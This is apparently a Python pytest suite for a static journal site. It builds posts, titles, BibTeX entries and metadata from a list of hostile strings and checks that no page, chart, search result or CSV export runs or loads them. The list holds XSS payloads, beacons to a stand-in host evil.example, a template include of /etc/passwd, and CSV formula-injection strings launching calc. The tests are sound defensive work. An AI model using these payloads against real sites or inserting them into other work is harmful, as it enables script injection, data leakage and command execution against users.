"""Text of others in every place where text goes: nothing of it runs, and nothing is asked of another host."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import pytest

from tests.builders.git_story import GitStory
from tests.builders.share import some
from tests.builders.site import Built, Site

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.conftest import Visit

RUN = "window.ran=1"
BEACON = "//evil.example/x"
# As many words as make a change worth showing.
MORE = "And here are some words more, so that this change is one that the page of the post has to show."
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<script src={BEACON}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={BEACON}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<math><mtext><script>{RUN}</script>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<object data={BEACON}>",
    f"<embed src={BEACON}>",
    f"<link rel=stylesheet href={BEACON}>",
    f"<style>@import url({BEACON})</style>",
    f"<style>*{{background:url({BEACON})}}</style>",
    f"<div style=background:url({BEACON})>",
    f"<base href={BEACON}>",
    f"<meta http-equiv=refresh content=0;url={BEACON}>",
    f"<form action={BEACON}><input autofocus onfocus={RUN}>",
    f"<video src={BEACON} autoplay>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java&#115;cript:{RUN}'>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    f"${{{RUN}}}`+{RUN}+`",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<b style='background:url({BEACON})'>bold</b>",
    f"<span style=\"color:red;background:url('{BEACON}')\">x</span><br>%{{x}}<extra></extra>",
    f"<a href='https:{BEACON}'>link</a><sup>2</sup>",
    f"=HYPERLINK('https:{BEACON}')",
    "+cmd|' /C calc'!A0",
    "@SUM(1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u2028\u2029<!--<script>",
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """A journal in which every text that a person can give is a payload."""
    folder = tmp_path_factory.mktemp("hostile")
    story = GitStory(folder)
    for number, payload in enumerate(PAYLOADS):
        text = json.dumps(payload)
        front = f"title: {text}\ncategory: topic-{number}\nsummary: {text}\n"
        front += "".join(f"{field}: [{text}]\n" for field in ("tags", "authors"))
        front += f"resources: [key{number}]\nmilestone: {text}\nreview_after: 2026-01-01\n"
        front += f"predictions: [{{claim: {text}, probability: 0.5, by: 2025, outcome: {text}}}]\n"
        # Raw HTML is its author's right: then it is the page's own policy that nothing of it runs. To send a reader on to
        # another page is a right as well, which no policy takes away.
        body = "" if "http-equiv" in payload else payload
        day = f"20{20 + number % 6}-0{1 + number % 9}-11"
        # No name of a file holds a slash, and none is longer than its file system has it.
        name = payload.replace("/", "-")[:60].strip()
        file = f"content/{number:02} {name}.md"
        author = payload.replace("<", "(").replace(">", ")").replace("\n", " ")
        for more in ("", f"{payload} {MORE}"):
            story.write(file, f"---\n{front}date: {day}\n---\n\n{body}\n\n`{payload}`\n\n{more if body else ''}\n")
            story.commit(f"{day[:8]}{11 if not more else 12}T10:00:00+00:00", author=author)
    # Each name is another one's slug otherwise.
    names = [
        f"topic-{number}: {{name: {json.dumps(f'{payload} {number}')}}}\n" for number, payload in enumerate(PAYLOADS)
    ]
    milestones = [
        f'- {{date: "2021-0{1 + number % 9}", title: {json.dumps(payload)}, kind: own}}\n'
        for number, payload in enumerate(PAYLOADS)
    ]
    # Braces and backslashes are BibTeX's own.
    fields = [payload.translate({ord("{"): "(", ord("}"): ")", ord("\\"): "/"}) for payload in PAYLOADS]
    entries = [
        f"@misc{{key{number}, title = {{{text}}}, author = {{{{{text}}}}}, year = {{2020}}, journal = {{{text}}}}}\n"
        for number, text in enumerate(fields)
    ]
    story.write("content/resources.bib", "".join(entries))
    story.write("content/topics.yaml", "".join(names)).write("content/milestones.yaml", "".join(milestones))
    story.commit("2026-01-01T10:00:00+00:00")
    return Site(folder, LEARNING_TIMELINE_SEARCH=True).build(
        SITENAME=PAYLOADS[0] + "A journal", SITESUBTITLE=PAYLOADS[3], LEARNING_TIMELINE_SIMULATED=PAYLOADS[4]
    )


@pytest.mark.parametrize(
    "url",
    [
        "",
        "timeline/",
        "2021/",
        "2021/?vs=2022",
        "2020s/",
        "topics/",
        "resources/",
        "predictions/",
        "revisit/",
        "archives/",
        "data/",
        "404.html",
    ],
)
def test_no_list_or_chart_runs_or_loads_what_a_text_says(
    hostile: Built, visit: Callable[..., Visit], serve: Callable[..., str], url: str
) -> None:
    seen = visit(serve(hostile.folder) + url)
    page = seen.page
    page.evaluate(
        """async () => {
            for (const figure of document.querySelectorAll("figure.chart, summary")) {
                figure.scrollIntoView();
                if (figure.matches("summary")) figure.click();
                await new Promise((done) => setTimeout(done, 60));
            }
        }"""
    )
    for mark in page.query_selector_all(".hoverlayer, .main-svg .point, .main-svg .trace")[:12]:
        if mark.is_visible():
            mark.hover(force=True)
    page.wait_for_timeout(300)
    nothing_ran(seen)


def test_no_result_of_a_search_runs_or_loads_what_it_shows(
    hostile: Built, visit: Callable[..., Visit], serve: Callable[..., str]
) -> None:
    start = serve(hostile.folder) + "search/?year="
    seen = visit(start + "2020")
    page, titles = seen.page, []
    for year in range(2020, 2026):
        page.goto(f"{start}{year}")
        page.wait_for_selector(".lt-found li")
        titles += page.locator(".lt-found h2").all_text_contents()
    assert set(titles) == {payload.strip() for payload in PAYLOADS}
    assert len(titles) == len(PAYLOADS)
    page.locator("select[name=year]").select_option("")
    # Words within the markup of a text, which marks stand around, and a question that is markup itself.
    for words in ("window", "script", "onerror", "evil", "<img src=x onerror=window.ran=1>", '"</script><script>"'):
        page.locator("input[name=q]").fill(words)
        page.wait_for_function("words => new URLSearchParams(location.search).get('q') === words", arg=words)
        page.wait_for_function("() => !document.querySelector('.lt-found[aria-busy]')")
        page.wait_for_timeout(50)
    assert page.locator(".lt-found :not(li, h2, a, p, time, span, mark)").count() == 0
    origins = page.locator(".lt-found a").evaluate_all("all => all.map((a) => a.origin)")
    assert set(origins) <= {page.evaluate("location.origin")}
    nothing_ran(seen)


def test_no_post_runs_or_loads_what_it_holds(
    hostile: Built, visit: Callable[..., Visit], serve: Callable[..., str]
) -> None:
    start = serve(hostile.folder)
    posts = sorted(hostile.folder.glob("posts/**/index.html"))
    topics = sorted(hostile.folder.glob("topics/*/index.html"))
    assert len(posts) == len(PAYLOADS)
    seen = visit(start)
    for page in [*some(posts, 3), *some(topics[::5], 3)]:
        seen.page.goto(start + page.parent.relative_to(hostile.folder).as_posix() + "/", wait_until="load")
        seen.page.wait_for_timeout(20)
        nothing_ran(seen)


def nothing_ran(seen: Visit) -> None:
    assert seen.page.evaluate("window.ran") is None
    # Scripts and pictures of a post's own HTML are stopped by the page's policy, before they are asked for.
    assert seen.refused == []


def test_a_journal_of_others_posts_keeps_their_text_and_nothing_else(tmp_path: Path) -> None:
    site = Site(tmp_path)
    for number, payload in enumerate(PAYLOADS):
        site.post(f"{number:02}.md", f"---\ntitle: {number}\ndate: 2026-01-01\n---\n\n{payload}\n\nKept.\n")
    built = site.build(LEARNING_TIMELINE_TRUST="text")
    for page in built.folder.glob("posts/**/index.html"):
        prose = page.read_text(encoding="utf-8").partition('<div class="prose"')[2].partition("post-foot")[0]
        for tag in ("<script", "<iframe", "<style", "<object", "<form", "<svg", "<link", "<base", "<meta", "<video"):
            assert tag not in prose.lower(), page
        # What an unclosed comment hides is not text of the page.
        assert "Kept." in prose or "&lt;!--" in prose


def test_a_spreadsheet_finds_no_formula_in_the_data(hostile: Built) -> None:
    rows = list(csv.DictReader(io.StringIO(hostile.text("data/posts.csv"))))
    titles = {row["title"] for row in rows}
    assert {"'+cmd|' /C calc'!A0", "'@SUM(1)*cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"} < titles
    assert not [cell for row in rows for cell in row.values() if cell[:1] in {"=", "+", "@"}]
    exact = {row["title"] for row in json.loads(hostile.text("data/posts.json"))}
    assert "+cmd|' /C calc'!A0" in exact


def test_no_address_of_a_person_is_published(hostile: Built) -> None:
    for path, data in hostile.files().items():
        assert b"author@example.org" not in data, path
        assert b"@journal.example" not in data, path
